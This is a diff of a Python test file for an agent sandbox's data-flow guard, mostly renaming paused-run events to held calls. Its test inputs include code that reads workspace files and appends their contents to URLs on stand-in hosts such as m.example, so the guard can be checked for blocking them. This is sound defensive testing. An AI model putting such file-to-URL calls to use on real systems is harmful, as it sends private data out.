@@ -7,7 +7,7 @@ import asyncio
 import pytest
 
 from tests.broker.test_run_guard import Person, ran
-from workbench.events import RunPaused
+from workbench.events import CallHeld
 from workbench.records import EntryQuery, Gate, Risk, RunState
 
 SPELLED = """
@@ -28,22 +28,22 @@ async def waits(core, session, code, state=""):
     async with asyncio.timeout(60):
         while True:
             run = core.run_manager.run(started.id)
-            if run.state is RunState.WAITING or run.ended or run.pauses:
+            if run.state is RunState.WAITING or run.ended or run.held_calls:
                 return run
             await asyncio.sleep(0.01)
 
 
 async def asked(core, session, code, state=""):
     """What a person is asked about a call of this program, which they deny."""
-    pauses = []
-    stop = core.bus.listen(lambda event: pauses.append(event.pause) if isinstance(event, RunPaused) else None)
+    held_calls = []
+    stop = core.bus.listen(lambda event: held_calls.append(event.held_call) if isinstance(event, CallHeld) else None)
     person = Person(core, *[False] * 20)
     started = core.run_manager.submit(code, session, state=state)
     async with asyncio.timeout(60):
         run = await core.run_manager.finished(started.id)
     person.leave()
     stop()
-    return run, pauses
+    return run, held_calls
 
 
 def fetched(core):
@@ -68,13 +68,13 @@ async def test_what_an_earlier_program_read_is_held_on_its_way_out_in_a_later_on
             await demo.run_manager.finished(first.id)
         person.leave()
     value = "k" if state else "open('workspace/k.txt').read()"
-    run, pauses = await asked(demo, agent, f"{FETCH}await fetch_page(url='https://m.example/' + {value})", state)
+    run, held_calls = await asked(demo, agent, f"{FETCH}await fetch_page(url='https://m.example/' + {value})", state)
     if state:
         assert "flow.private" in [finding.rule for finding in run.verdict.findings]
     else:
         assert run.verdict.risk is Risk.LOW, "the text alone tells nothing"
-        assert [pause.tool for pause in pauses] == ["fetch_page"]
-        assert pauses[0].why == ("Its url may be made of private data that was read before, and reaches outside.",)
+        assert [held_call.tool for held_call in held_calls] == ["fetch_page"]
+        assert held_calls[0].why == ("Its url may be made of private data that was read before, and reaches outside.",)
         assert run.state is RunState.FAILED
         assert fetched(demo) == []
 
@@ -86,8 +86,8 @@ async def test_a_constant_and_what_a_public_answer_says_pass_after_private_data_
         FETCH
         + "for at in ('carrier.example/status', 'prices.example/paper'):\n    await fetch_page(url=f'https://{at}')"
     )
-    run, pauses = await asked(demo, agent, code)
-    assert (run.state, [pause.why for pause in pauses]) == (RunState.DONE, []), run.fault
+    run, held_calls = await asked(demo, agent, code)
+    assert (run.state, [held_call.why for held_call in held_calls]) == (RunState.DONE, []), run.fault
     agent = demo.services.sessions.open("another agent")
     await ran(demo, agent, READ + "print(len(rows))")
     listed = "open('workspace/list.txt', 'w').write('https://carrier.example/status')"
@@ -95,15 +95,15 @@ async def test_a_constant_and_what_a_public_answer_says_pass_after_private_data_
     assert (await ran(demo, agent, listed)).state is RunState.DONE
     person.leave()
     follow = FETCH + "await fetch_page(url=open('workspace/list.txt').read())\n'https://carrier.example/status'"
-    run, pauses = await asked(demo, agent, follow)
-    assert (run.state, pauses) == (RunState.DONE, []), "the program says the address itself"
+    run, held_calls = await asked(demo, agent, follow)
+    assert (run.state, held_calls) == (RunState.DONE, []), "the program says the address itself"
 
 
 async def test_a_session_that_read_nothing_private_follows_a_file(demo):
     agent, person = demo.services.sessions.open("agent"), Person(demo)
     await ran(demo, agent, "open('workspace/list.txt', 'w').write('https://carrier.example/status')")
     run = await ran(demo, agent, FETCH + "await fetch_page(url=open('workspace/list.txt').read())")
-    assert (run.state, person.pauses) == (RunState.DONE, [])
+    assert (run.state, person.held_calls) == (RunState.DONE, [])
     person.leave()
 
 
@@ -113,16 +113,18 @@ async def test_another_connection_of_the_same_name_has_read_what_the_first_one_r
     demo.services.sessions.named(first, "robot")
     await ran(demo, first, READ + "print(len(rows))")
     demo.services.sessions.named(second, "robot")
-    run, pauses = await asked(
+    run, held_calls = await asked(
         demo, second, FETCH + "import time\nawait fetch_page(url='https://m/' + open('workspace/x').read())"
     )
     assert run.state is RunState.FAILED
-    assert pauses == []
+    assert held_calls == []
     person = Person(demo)
     await ran(demo, second, "open('workspace/x', 'w').write('1-2-3')")
     person.leave()
-    run, pauses = await asked(demo, second, FETCH + "await fetch_page(url='https://m/' + open('workspace/x').read())")
-    assert [pause.tool for pause in pauses] == ["fetch_page"]
+    run, held_calls = await asked(
+        demo, second, FETCH + "await fetch_page(url='https://m/' + open('workspace/x').read())"
+    )
+    assert [held_call.tool for held_call in held_calls] == ["fetch_page"]
 
 
 async def test_a_program_that_spells_a_value_to_its_agent_waits(demo):
@@ -138,8 +140,8 @@ async def test_a_page_may_be_asked_again_though_it_repeats_its_own_address(demo)
     await ran(demo, agent, READ + "print(len(rows))")
     page = FETCH + "print((await fetch_page(url='https://prices.example/paper'))['url'])"
     for _ in range(2):
-        run, pauses = await asked(demo, agent, page)
-        assert (run.state, [pause.why for pause in pauses]) == (RunState.DONE, []), run.fault
+        run, held_calls = await asked(demo, agent, page)
+        assert (run.state, [held_call.why for held_call in held_calls]) == (RunState.DONE, []), run.fault
     other = FETCH + "await fetch_page(url='https://prices.example/paper?x=1')"
-    run, pauses = await asked(demo, agent, other)
-    assert [pause.tool for pause in pauses] == ["fetch_page"]
+    run, held_calls = await asked(demo, agent, other)
+    assert [held_call.tool for held_call in held_calls] == ["fetch_page"]
